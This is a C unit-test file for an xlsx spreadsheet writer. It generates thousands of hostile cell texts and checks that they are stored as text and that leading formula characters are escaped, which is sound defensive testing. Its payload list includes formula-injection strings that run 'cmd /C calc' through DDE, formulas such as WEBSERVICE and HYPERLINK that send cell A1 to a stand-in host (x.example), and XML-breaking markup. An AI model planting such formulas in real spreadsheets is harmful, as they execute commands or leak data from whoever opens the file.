/* Texts that want to be formulas, or to break the file: they are written and read back as texts.
 *
 *   test_hostile                         two thousand of them
 *   test_hostile COUNT                   so many
 *   test_hostile --write FOLDER COUNT    plain.xlsx and long.xlsx (constant memory) with so many between them,
 *                                        to be opened by other programs: tests/test_hostile.py
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>
#include <stdio.h>
#include <unistd.h>

#include "base/file.h"
#include "report/xlsx.h"

static char scratch[64];
static size_t wanted = 2000;

/* ---- the texts ---- */

static const char *const before[] = {"",
                                     "",
                                     "",
                                     "",
                                     " ",
                                     "\t",
                                     "\r",
                                     "\n",
                                     "\r\n",
                                     "\xef\xbb\xbf",
                                     "\xc2\xa0",
                                     "\xe3\x80\x80",
                                     "\xe2\x80\x8b",
                                     "'",
                                     "\"",
                                     "\",",
                                     ";",
                                     ", ",
                                     "a;",
                                     "SITI,",
                                     "\x01",
                                     "\x1b[31m",
                                     "\x7f",
                                     "\xe2\x80\xae",
                                     "\xff",
                                     "\xed\xa0\x80",
                                     "\xc0\xaf",
                                     "x",
                                     "\xe2\x81\xa6"};
static const char *const middle[] = {"=",
                                     "+",
                                     "-",
                                     "@",
                                     "==",
                                     "=-",
                                     "+-",
                                     "\xef\xbc\x9d",
                                     "\xef\xbc\x8b",
                                     "\xef\xbc\x8d",
                                     "\xef\xbc\xa0",
                                     "=\t",
                                     "-\xc2\xa0"};
static const char *const behind[] = {
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
    "DDE(\"cmd\",\"/C calc\",\"x\")",
    "SUM(A1:A9)*cmd|'/c calc'!A0",
    "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "2+5+cmd|'/C calc'!A0",
    "WEBSERVICE(\"http://x.example/\"&A1)",
    "_x0041_ _x003D_1",
    "</t></is></c><c r=\"A1\"><f>1</f></c>",
    "]]>&amp;&#61;1",
    "SITI RAHAYU",
    "350000",
    "",
    "1\xed\xb0\x80\xff\xfe",

    "\xf0\x9f\x99\x82\xe2\x80\xae"
    "000.053pR",
};
enum {
    BEFORE = sizeof before / sizeof *before,
    MIDDLE = sizeof middle / sizeof *middle,
    BEHIND = sizeof behind / sizeof *behind,
};

/* Text number `item`; every thousandth is very long, every seventh has a byte that anything may be. */
static void put_hostile(size_t item, rk_buffer *out)
{
    uint64_t seed = item * 6364136223846793005u + 1442695040888963407u;
    rk_buffer_clear(out);
    rk_buffer_text(out, before[item % BEFORE]);
    rk_buffer_text(out, middle[item / BEFORE % MIDDLE]);
    rk_buffer_text(out, behind[(seed >> 33) % BEHIND]);
    if (item % 7 == 0)
        rk_buffer_char(out, (char)(seed >> 40));
    if (item % 11 == 0) {
        rk_buffer_text(out, before[(seed >> 20) % BEFORE]);
        rk_buffer_text(out, middle[(seed >> 25) % MIDDLE]);
        rk_buffer_text(out, behind[(seed >> 30) % BEHIND]);
    }
    for (size_t i = 0; item % 1000 == 3 && i < 12000; i++)
        rk_buffer_text(out, i % 400 == 0 ? ";=1" : "\xc3\xa9=");
}

/* ---- a book of them ---- */

typedef struct source {
    size_t from;
} source;

static void fill_row(const void *context, size_t item, rk_row *row)
{
    rk_buffer text = {0};
    rk_row_begin(row);
    rk_row_number(row, RK_STYLE_NUMBER, (double)item);
    put_hostile(((const source *)context)->from + item, &text);
    rk_row_text(row, RK_STYLE_TEXT, rk_buffer_all(&text));
    rk_row_end(row);
    rk_buffer_free(&text);
}

/* Half of the texts in a list, half in cells of their own */
static void lay_book(rk_plan *plan, rk_arena *arena, source *from, size_t count)
{
    rk_error err;
    rk_buffer text = {0};
    *plan = (rk_plan){.arena = arena, .created = 19787, .footer = RK_S("&P"), .title = RK_S("t")};
    rk_plan_sheet *cells = rk_plan_add_sheet(plan, RK_S("=1+1"), &err);
    for (uint32_t i = 0; i < count / 2; i++) {
        put_hostile(from->from + count / 2 + i, &text);
        rk_plan_number(cells, i, 0, RK_STYLE_NUMBER, i);
        rk_plan_text(cells, i, 1, i % 2 ? RK_STYLE_WRAP : RK_STYLE_TEXT, rk_buffer_all(&text));
        if (i % 100 == 0)
            rk_plan_link(cells, i, 2, rk_buffer_all(&text), RK_S("=1+1"), 0);
    }
    rk_plan_sheet *list = rk_plan_add_sheet(plan, RK_S("Daftar"), &err);
    rk_plan_text(list, 0, 1, RK_STYLE_HEAD, RK_S("=1+1"));
    list->fill = fill_row;
    list->context = from;
    list->list_row = 1;
    list->list_columns = 2;
    list->list_count = count - count / 2;
    list->filters = true;
    rk_buffer_free(&text);
    if (!rk_plan_finish(plan, &err))
        fail_msg("%s", err.message);
}

static void make_book(size_t first, size_t count, uint32_t long_rows, rk_buffer *bytes)
{
    rk_arena arena = {0};
    rk_plan plan;
    rk_digest parts;
    rk_error err;
    source from = {first};
    rk_plan_limits.long_rows = long_rows;
    lay_book(&plan, &arena, &from, count);
    bool good = rk_folder_make(scratch, 0700, &err) && rk_xlsx_write(&plan, scratch, bytes, &err) &&
                rk_xlsx_read_back(&plan, rk_buffer_all(bytes), &parts, &err);
    rk_plan_free(&plan);
    rk_arena_free(&arena);
    if (!good)
        fail_msg("%s", err.message);
}

static void test_hostile__texts_come_back_as_they_were_meant(void **state)
{
    (void)state;
    rk_buffer bytes = {0};
    make_book(0, wanted / 2, UINT32_MAX, &bytes);
    rk_buffer_clear(&bytes);
    make_book(wanted / 2, wanted - wanted / 2, 1, &bytes);
    rk_buffer_free(&bytes);
}

static void test_hostile__texts_begin_no_formula(void **state)
{
    (void)state;
    static const struct {
        const char *text, *shown;
    } cases[] = {
        {"=1+1", "'=1+1"},
        {" =1+1", "' =1+1"},
        {"\xef\xbb\xbf=1", "'\xef\xbb\xbf=1"},
        {"\xef\xbc\x9d"
         "1",
         "'\xef\xbc\x9d"
         "1"},
        {"\t=1", "\xef\xbf\xbd=1"},
        {"a;=1", "a;'=1"},
        {"a, @b", "a,' @b"},
        {"a,-b", "a,'-b"},
        {"Rp350.000,-", "Rp350.000,-"},
        {"Rp350.000,- lunas", "Rp350.000,'- lunas"},
        {"a;Rp350.000,-", "a;Rp350.000,'-"},
        {"\"a\",-", "\"a\",'-"},
        {"a,-,+", "a,'-,+"},
        {"a;b;-", "a;b;-"},
        {"a-b=c", "a-b=c"},
        {"\xe2\x80\xae"
         "abc",
         "\xef\xbf\xbd"
         "abc"},
        {"\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"},
        {"'=1", "'=1"},
    };
    rk_buffer clean = {0};
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        rk_buffer_clear(&clean);
        rk_plan_clean(rk_slice_of(cases[i].text), &clean);
        if (!rk_slice_is(rk_buffer_all(&clean), cases[i].shown))
            fail_msg("case %zu: \"%.*s\"", i, (int)clean.len, clean.bytes);
    }
    rk_buffer_free(&clean);
}

static int write_books(const char *folder, size_t count)
{
    static const char *const names[] = {"plain.xlsx", "long.xlsx"};
    rk_arena arena = {0};
    for (size_t i = 0; i < 2; i++) {
        rk_buffer bytes = {0};
        rk_error err;
        make_book(i * (count / 2), count / 2, i ? 1 : UINT32_MAX, &bytes);
        if (!rk_file_write(rk_path_join(&arena, folder, rk_slice_of(names[i])),
                           rk_buffer_all(&bytes), 0644, "test", &err))
            return 1;
        rk_buffer_free(&bytes);
    }
    rk_arena_free(&arena);
    rk_error ignored;
    return rk_folder_remove(scratch, &ignored) ? 0 : 1;
}

static int remove_scratch(void **state)
{
    rk_error err;
    (void)state;
    return rk_folder_remove(scratch, &err) ? 0 : 1;
}

int main(int argc, char **argv)
{
    snprintf(scratch, sizeof scratch, "/tmp/rekon-test-hostile-%ld", (long)getpid());
    if (argc == 4)
        return write_books(argv[2], strtoul(argv[3], NULL, 10));
    if (argc > 1)
        wanted = strtoul(argv[1], NULL, 10);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_hostile__texts_come_back_as_they_were_meant),
        cmocka_unit_test(test_hostile__texts_begin_no_formula),
    };
    return cmocka_run_group_tests(tests, NULL, remove_scratch);
}
